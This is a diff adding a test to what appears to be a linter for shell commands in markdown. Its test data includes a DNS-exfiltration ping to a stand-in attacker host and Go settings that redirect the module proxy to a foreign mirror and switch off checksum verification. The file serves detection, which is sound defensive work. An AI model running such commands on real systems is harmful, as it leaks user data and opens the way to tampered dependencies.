@@ -263,3 +263,10 @@ def test_variables_posted_to_a_foreign_host_are_a_warning() -> None:
 def test_a_dns_name_built_from_a_command_is_a_warning() -> None:
     assert ("ACT001", "warning") in act("```bash\nping -c1 $(whoami).p.evil-x.io\n```\n")
     assert not act("```bash\ndig +short $HOST.internal\nnslookup example.com\n```\n")
+
+
+def test_a_foreign_package_source_with_verification_off_is_an_error() -> None:
+    unchecked = "```bash\ngo env -w GOPROXY=https://goproxy.mirror-x.cc,direct\ngo env -w GONOSUMDB='*'\n```\n"
+    assert ("ACT005", "error") in act(unchecked)
+    checked = "```bash\ngo env -w GOPROXY=https://goproxy.mirror-x.cc,direct\n```\n"
+    assert ("ACT005", "warning") in act(checked) and ("ACT005", "error") not in act(checked)
